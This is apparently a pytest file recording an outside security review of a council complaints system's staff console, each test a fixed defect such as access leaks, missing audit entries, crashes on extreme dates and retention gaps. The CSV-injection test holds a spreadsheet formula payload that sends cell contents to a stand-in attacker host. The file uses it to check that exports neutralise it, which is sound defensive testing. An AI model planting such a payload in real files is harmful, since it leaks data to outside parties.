"""An outside review of the staff side (December 2026): what a member of staff, or someone probing the
console, could do that they should not, or that broke. Each test is one defect found and fixed."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import uuid
from datetime import UTC, datetime
from typing import Any

import asyncpg
import httpx
from temporalio.testing import WorkflowEnvironment

from core.settings import Settings
from store.retention import RetentionRepository
from tests.api_helpers import assert_problem, bearer
from tests.inbound_helpers import Inbound, complaint, inbound, mail
from tests.staff_console import console, open_complaint, sign_in
from tests.test_api_actions import example
from tests.test_need_to_know import log_complaint, token_with_claims
from tests.test_residents import Stack, stack

__all__ = ["console", "inbound", "stack"]  # the fixtures, imported so pytest finds them here


async def test_a_report_year_the_console_cannot_count_is_a_refusal_page_not_a_500(
    console: tuple[httpx.AsyncClient, Settings], pool: asyncpg.Pool
) -> None:
    """The console's report links take the year from the address: a year past 9999 (or before 1) is the
    manager's typo, answered like the API's 422, never an internal error."""
    client, _ = console
    await sign_in(client, "maya.manager")
    for url in (
        "/staff/reports/annual?year=99999",
        "/staff/reports/annual?year=0",
        "/staff/reports/self-assessment?year=10000&policy_id=bexley",
    ):
        answer = await client.get(url)
        assert answer.status_code == 422, (url, answer.status_code, answer.text[:300])
        assert "This report cannot be shown" in answer.text and "from 2000 to 2100" in answer.text
    fine = await client.get("/staff/reports/annual?year=2026")
    assert fine.status_code == 200, fine.text[:300]


async def test_a_received_date_the_queue_cannot_count_is_shown_beside_the_filter_not_a_500(
    console: tuple[httpx.AsyncClient, Settings],
) -> None:
    """The queue's "received to" counts up to the end of that day: 31 December 9999 had no next day, and the
    page was an internal error. A date outside the service's years is the filter's error, like any typo."""
    client, settings = console
    await sign_in(client, "olivia.officer")
    for query in ("received_to=9999-12-31", "received_from=0001-01-01", "received_to=1999-12-31"):
        answer = await client.get(f"/staff/queues/unassigned?{query}")
        assert answer.status_code == 200, (query, answer.status_code, answer.text[:300])
        assert "Enter a date from 2000 to 2100" in answer.text, query
        exported = await client.get(f"/staff/export/unassigned.csv?{query}")
        assert exported.status_code == 200 and exported.text.startswith("reference,"), query
    # The API's list takes moments, not days: the same far dates are filters, not errors.
    for query in ("received_to=9999-12-31T23:59:59Z", "received_from=0001-01-01T00:00:00Z"):
        listed = await client.get(f"/api/complaints?{query}", headers=bearer("olivia.officer", settings))
        assert listed.status_code in (200, 422), (query, listed.status_code, listed.text[:300])


async def test_the_queue_csv_never_hands_a_spreadsheet_a_formula_from_a_residents_name(
    console: tuple[httpx.AsyncClient, Settings],
) -> None:
    """A complainant's name is whatever the resident typed: in the queue's CSV, opened in a spreadsheet, a
    name starting with = + - @ (or a tab) was a formula (CSV injection: a link that sends the sheet's
    neighbouring cells elsewhere). It is written as text, with a leading apostrophe; other names as typed."""
    client, settings = console
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Ada")'
    references = {
        name: await open_complaint(client, settings, complainant={"name": name, "email": "csv@example.org"})
        for name in (formula, "+44 20 7946 0000", "@SUM(1+1)", "-1+2", "Ada Resident")
    }
    await sign_in(client, "olivia.officer")
    exported = await client.get("/staff/export/unassigned.csv")
    assert exported.status_code == 200
    rows = {row[0]: row for row in csv.reader(io.StringIO(exported.text))}
    assert rows[references[formula]][1] == "'" + formula
    assert rows[references["+44 20 7946 0000"]][1] == "'+44 20 7946 0000"
    assert rows[references["@SUM(1+1)"]][1] == "'@SUM(1+1)"
    assert rows[references["-1+2"]][1] == "'-1+2"
    assert rows[references["Ada Resident"]][1] == "Ada Resident"


async def test_an_area_limited_manager_does_not_get_the_whole_councils_ombudsman_indicators(
    console: tuple[httpx.AsyncClient, Settings],
) -> None:
    """Need-to-know on reports: staff limited to service areas get the performance report of their areas
    and not the whole-council reports. The ombudsman's indicator set is one of those (every area's
    figures, and the learning: the improvements promised in every area, in their words), yet it answered
    a manager limited to waste as it answers one who sees every area."""
    client, settings = console
    period = {"policy_id": "scotland-model", "from": "2026-04-01", "to": "2027-03-31"}
    waste = token_with_claims("maya.manager", settings, service_areas=["waste"])
    refused = await client.get("/api/reports/indicators", params=period, headers=waste)
    assert_problem(refused, 403, "covers every service area")
    everyone = await client.get(
        "/api/reports/indicators", params=period, headers=bearer("maya.manager", settings)
    )
    assert everyone.status_code == 200, everyone.text


async def test_reading_the_triage_queue_through_the_api_is_in_the_audit_trail(inbound: Inbound) -> None:
    """A message in triage is a resident's words, name and address. The console's queue and item pages are
    `triage_list` and `triage_read` rows in the audit trail; the API's `GET /api/triage` and
    `GET /api/triage/{id}` showed the same to anyone with the role and left no trace."""
    stack = inbound
    tag = uuid.uuid4().hex[:8]
    await stack.send(mail(sender="Fay Tenant <fay@example.net>", subject=f"Broken lift {tag}", text="Stuck."))
    officer = bearer("olivia.officer", stack.settings)

    async def rows(action: str) -> list[dict[str, Any]]:
        found = await stack.pool.fetch(
            "SELECT actor_id, after FROM audit_log WHERE action = $1 AND actor_id = 'olivia.officer'", action
        )
        return [
            {
                **dict(row),
                "after": json.loads(row["after"]) if isinstance(row["after"], str) else row["after"],
            }
            for row in found
        ]

    listed_before = len(await rows("triage_list"))
    queue = await stack.client.get("/api/triage", headers=officer)
    assert queue.status_code == 200, queue.text
    [item] = [item for item in queue.json() if item["subject"] == f"Broken lift {tag}"]
    assert len(await rows("triage_list")) == listed_before + 1
    detail = await stack.client.get(f"/api/triage/{item['id']}", headers=officer)
    assert detail.status_code == 200, detail.text
    read = [row for row in await rows("triage_read") if row["after"].get("inbound_id") == item["id"]]
    assert len(read) == 1
    assert "fay" not in json.dumps(read[0]["after"]).lower()  # the message's id, never its sender


def _cursor(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode()


async def test_a_moment_past_the_calendars_edge_in_a_list_filter_or_cursor_is_a_422_not_a_500(
    console: tuple[httpx.AsyncClient, Settings],
) -> None:
    """The list's "received" filters and its cursors are moments: 1 January of year 1 at +14:00 is the last
    day of year 0 in UTC, which PostgreSQL's driver cannot send, and the list was an internal error (the
    console's queue too, from its `after`). The API refuses such a moment like any date outside the
    service's years; the console, whose cursors only it writes, starts again from the first page."""
    client, settings = console
    manager = bearer("maya.manager", settings)
    for query in (
        {"received_from": "0001-01-01T00:00:00+14:00"},
        {"received_to": "9999-12-31T23:59:59-14:00"},
        {"cursor": _cursor(["0001-01-01T00:00:00+14:00", "CMP-2026-000001"])},
        {"cursor": _cursor(["9999-12-31T23:59:59-14:00", "CMP-2026-000001"])},
    ):
        answer = await client.get("/api/complaints", params=query, headers=manager)
        assert_problem(answer, 422)
    assert (
        await client.get("/api/complaints", params={"received_from": "2026-01-01T00:00:00Z"}, headers=manager)
    ).status_code == 200
    await sign_in(client, "maya.manager")
    for after in ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"):
        page = await client.get("/staff/queues/mine", params={"after": _cursor([after, "CMP-2026-000001"])})
        assert page.status_code == 200, (after, page.status_code, page.text[:300])


async def test_an_events_cursor_past_any_sequence_is_a_422_not_a_500(
    console: tuple[httpx.AsyncClient, Settings],
) -> None:
    """The event trail's cursor names a sequence number (an integer column): one edited past 2**31 could not
    be sent to PostgreSQL and the page was an internal error."""
    client, settings = console
    reference = await open_complaint(client, settings)
    manager = bearer("maya.manager", settings)
    url = f"/api/complaints/{reference}/events"
    for seq in ("99999999999999999999", "2147483648", "-99999999999999999999"):
        cursor = base64.urlsafe_b64encode(f"seq:{seq}".encode()).decode()
        assert_problem(await client.get(url, params={"cursor": cursor}, headers=manager), 422, "cursor")
    first = await client.get(url, headers=manager)
    assert first.status_code == 200 and first.json()["items"][0]["seq"] == 0


async def test_bulk_reassignment_from_a_stale_queue_does_not_undo_a_colleagues_assignment(
    console: tuple[httpx.AsyncClient, Settings], pool: asyncpg.Pool
) -> None:
    """Every console form carries the complaint's sequence, so an action on a page someone else acted on since
    is refused ("Someone else acted on this complaint"). Bulk reassignment did not: a manager's selection on
    the Unassigned queue reassigned a complaint an officer had assigned meanwhile, silently taking it from
    the investigator it had just been given to."""
    client, settings = console
    marker = f"stale{uuid.uuid4().hex[:8]}"
    reference = await open_complaint(client, settings, summary=f"Damp in the bedroom, case {marker}.")
    fresh = await open_complaint(client, settings, summary=f"Mould in the hall, case {marker}.")
    token = await sign_in(client, "maya.manager")
    queue = await client.get("/staff/queues/unassigned", params={"q": marker})
    assert reference in queue.text and fresh in queue.text
    shown = dict(re.findall(r'name="(seq-[^"]+)" value="(\d+)"', queue.text))
    assert {f"seq-{reference}", f"seq-{fresh}"} <= set(shown)

    # Meanwhile an officer gives the first one to Ines.
    assigned = await client.post(
        f"/api/complaints/{reference}/assign",
        json={"assignee": "ines.investigator"},
        headers=bearer("olivia.officer", settings),
    )
    assert assigned.status_code == 200, assigned.text

    sent = await client.post(
        "/staff/bulk-reassign",
        data={
            "csrf_token": token,
            "queue": "unassigned",
            "reference": [reference, fresh],
            "assignee": "ian.investigator",
            **shown,
        },
    )
    assert sent.status_code == 200, sent.text
    assert "1 complaint reassigned to ian.investigator" in sent.text
    failed = re.search(r'id="bulk-failed".*?</table>', sent.text, re.S)
    assert failed and reference in failed.group(0) and "changed after the queue was shown" in failed.group(0)
    assigned_to = "SELECT assigned_to FROM complaints WHERE reference = $1"
    assert await pool.fetchval(assigned_to, reference) == "ines.investigator"
    assert await pool.fetchval(assigned_to, fresh) == "ian.investigator"


async def test_no_evidence_is_kept_on_a_complaint_whose_personal_data_was_destroyed(
    console: tuple[httpx.AsyncClient, Settings], pool: asyncpg.Pool, temporal_env: WorkflowEnvironment
) -> None:
    """The retention purge destroys a complaint's evidence once, then never looks at it again. A file staff
    attached afterwards (the case is still readable: its reference, dates and figures stay) was stored for
    ever, the resident's story past every retention period. Attaching is refused once the data is gone."""
    client, settings = console
    reference = await open_complaint(client, settings)
    await temporal_env.client.get_workflow_handle(f"complaint-{reference}").terminate()
    destroyed = await RetentionRepository(pool).destroy_personal_data(
        reference=reference, at=datetime.now(UTC), retention_years=6
    )
    assert destroyed
    photo = {"file": ("damp.jpg", b"\xff\xd8\xff\xe0 photo", "image/jpeg")}
    refused = await client.post(
        f"/api/complaints/{reference}/attachments", files=photo, headers=bearer("olivia.officer", settings)
    )
    assert_problem(refused, 409, "personal data was destroyed")
    assert await pool.fetchval("SELECT count(*) FROM attachments WHERE reference = $1", reference) == 0
    # A complaint whose data is held still takes evidence.
    other = await open_complaint(client, settings)
    taken = await client.post(
        f"/api/complaints/{other}/attachments", files=photo, headers=bearer("olivia.officer", settings)
    )
    assert taken.status_code == 201, taken.text


async def test_an_area_limited_manager_neither_reads_nor_writes_the_whole_councils_annual_report_parts(
    console: tuple[httpx.AsyncClient, Settings], pool: asyncpg.Pool
) -> None:
    """The annual report covers every service area, so a manager limited to one may not read it (403). Its
    written parts (the governing body's response, the qualitative analysis...) and the staff training it
    counts were still theirs to read and to overwrite: the council's report then printed what a manager of
    one area wrote over the complaints manager's text."""
    client, settings = console
    waste = token_with_claims("maya.manager", settings, service_areas=["waste"])
    everyone = bearer("maya.manager", settings)
    sections = "/api/reports/annual/2031/sections"
    council = {"policy_id": "bexley"}
    written = await client.put(
        f"{sections}/governing_body_response", params=council, json={"text": "Agreed."}, headers=everyone
    )
    assert written.status_code == 200, written.text

    overwrite = await client.put(
        f"{sections}/governing_body_response", params=council, json={"text": "Not agreed."}, headers=waste
    )
    assert_problem(overwrite, 403, "covers every service area")
    assert_problem(await client.get(sections, params=council, headers=waste), 403)
    training = "/api/reports/staff-training"
    session = {"held_on": "2031-05-01", "kind": "training", "topic": "Listening", "staff_reached": 3}
    assert_problem(await client.post(training, params=council, json=session, headers=waste), 403)
    period = council | {"from": "2031-04-01", "to": "2032-03-31"}
    assert_problem(await client.get(training, params=period, headers=waste), 403)

    kept = await client.get(sections, params=council, headers=everyone)
    assert [entry["text"] for entry in kept.json()] == ["Agreed."]
    assert (await client.get(training, params=period, headers=everyone)).status_code == 200


async def test_a_message_is_not_linked_to_a_complaint_whose_personal_data_was_destroyed(
    inbound: Inbound, temporal_env: WorkflowEnvironment
) -> None:
    """Linking a triage message to a complaint the retention purge had emptied answered "linked", but the
    complaint's workflow was gone: the message stayed `routing` for ever (the sweep retrying the signal),
    its words and sender kept past every retention period under a reference the purge had finished with.
    The link is refused (409) and the message stays in the queue for another decision."""
    stack = inbound
    reference, _ = await complaint(stack)
    await temporal_env.client.get_workflow_handle(f"complaint-{reference}").terminate()
    destroyed = await RetentionRepository(stack.pool).destroy_personal_data(
        reference=reference, at=datetime.now(UTC), retention_years=6
    )
    assert destroyed
    tag = uuid.uuid4().hex[:8]
    await stack.send(mail(sender="Gus <gus@example.net>", subject=f"Old case {tag}", text="About the damp."))
    officer = bearer("olivia.officer", stack.settings)
    queue = await stack.client.get("/api/triage", headers=officer)
    [item] = [item for item in queue.json() if item["subject"] == f"Old case {tag}"]
    refused = await stack.client.post(
        f"/api/triage/{item['id']}/link", json={"reference": reference}, headers=officer
    )
    assert_problem(refused, 409, "personal data was destroyed")
    row = await stack.pool.fetchrow(
        "SELECT status, reference FROM inbound_messages WHERE id = $1", uuid.UUID(item["id"])
    )
    assert row is not None and row["status"] == "triage" and row["reference"] is None


async def test_a_complaint_is_not_assigned_to_someone_whose_areas_leave_it_out(stack: Stack) -> None:
    """Need-to-know: staff limited to service areas do not see a complaint of another area (404, left out of
    My cases). Assignment still gave one to them: the complaint was then nobody's to work (the assignee
    told it was theirs, unable to open it). The staff directory keeps each person's areas as their sign-in
    gave them, and an assignee whose areas leave the complaint out is refused like any unfit assignee."""
    app = stack.app_with(staff_service_areas={"ines.investigator": ["waste"]})
    settings: Settings = app.state.services.settings
    try:
        await _assign_by_areas(stack, app, settings)
    finally:
        # Ines signs in again without areas (as every other test knows her): the directory follows.
        async with stack.client() as client:
            await client.get("/api/auth/me", headers=bearer("ines.investigator", stack.settings))
    areas = "SELECT service_areas FROM staff_users WHERE id = 'ines.investigator'"
    assert await stack.pool.fetchval(areas) is None


async def _assign_by_areas(stack: Stack, app: Any, settings: Settings) -> None:
    async with stack.client(app=app) as client:
        # Ines signs in (any API call): the directory now knows her areas.
        me = await client.get("/api/auth/me", headers=bearer("ines.investigator", settings))
        assert me.status_code == 200, me.text
        officer = bearer("olivia.officer", settings)
        housing = await log_complaint(client, settings, service_area="housing-repairs")
        refused = await client.post(
            f"/api/complaints/{housing}/assign", json={"assignee": "ines.investigator"}, headers=officer
        )
        assert_problem(refused, 422, "does not deal with housing-repairs")
        waste = await log_complaint(client, settings, service_area="waste")
        taken = await client.post(
            f"/api/complaints/{waste}/assign", json={"assignee": "ines.investigator"}, headers=officer
        )
        assert taken.status_code == 200, taken.text
        # Someone not limited to areas is assigned anything, as before.
        assert (
            await client.get("/api/auth/me", headers=bearer("ian.investigator", settings))
        ).status_code == 200
        anyone = await client.post(
            f"/api/complaints/{housing}/assign", json={"assignee": "ian.investigator"}, headers=officer
        )
        assert anyone.status_code == 200, anyone.text


async def test_the_case_page_does_not_name_a_restricting_complaint_closed_to_the_reader(
    console: tuple[httpx.AsyncClient, Settings],
) -> None:
    """A contact restriction applies to the person across their complaints, so the case page lists the ones
    decided on their other complaints too, naming each. For a reader that other complaint is closed to (it
    names them, or it is outside their areas) that gave away its reference, and that the resident had
    complained about them. The restriction is still shown; the complaint it was decided on is not named."""
    client, settings = console
    email = f"restricted-{uuid.uuid4().hex[:8]}@example.org"
    person = {"name": "Ada Resident", "email": email}
    shared = await open_complaint(client, settings, complainant=person)
    about_ian = await open_complaint(
        client, settings, complainant=person, staff_complained_about=["ian.investigator"]
    )
    restricted = await client.post(
        f"/api/complaints/{about_ian}/restrict-contact",
        json=example("restrict_contact"),
        headers=bearer("maya.manager", settings),
    )
    assert restricted.status_code == 200, restricted.text

    token = await sign_in(client, "ian.investigator")
    page = await client.get(f"/staff/complaints/{shared}")
    assert page.status_code == 200
    listed = re.search(r'id="restrictions">(.*?)</ul>', page.text, re.S)
    assert listed and "closed until" in listed.group(1)
    assert about_ian not in page.text
    assert "on another complaint" in listed.group(1)
    await client.post("/staff/sign-out", data={"csrf_token": token})

    await sign_in(client, "maya.manager")
    page = await client.get(f"/staff/complaints/{shared}")
    assert f"on {about_ian}" in page.text


async def test_ended_console_sessions_are_not_kept(
    console: tuple[httpx.AsyncClient, Settings], pool: asyncpg.Pool
) -> None:
    """A console session ends after STAFF_SESSION_IDLE_MINUTES without a request or STAFF_SESSION_HOURS, but
    only "Sign out" deleted its row: every session that simply ran out (most of them) was kept for ever,
    with who signed in. Ended sessions are deleted when someone signs in."""
    client, _ = console
    staff = '{"id": "gone.officer", "name": "Gone", "role": "complaints_officer"}'
    stale = [f"stale-{uuid.uuid4().hex}" for _ in range(2)]
    await pool.execute(
        "INSERT INTO staff_sessions (secret_hash, staff, csrf_token, expires_at) VALUES"
        " ($1, $3::jsonb, 'x', now() - interval '1 minute'),"
        " ($2, $3::jsonb, 'x', now() + interval '1 hour')",
        *stale,
        staff,
    )
    await pool.execute(
        "UPDATE staff_sessions SET last_seen_at = now() - interval '2 hours' WHERE secret_hash = $1", stale[1]
    )
    await sign_in(client, "olivia.officer")
    left = await pool.fetchval(
        "SELECT count(*) FROM staff_sessions WHERE secret_hash = ANY($1::text[])", stale
    )
    assert left == 0
    assert (
        await pool.fetchval("SELECT count(*) FROM staff_sessions WHERE staff ->> 'id' = 'olivia.officer'")
        >= 1
    )
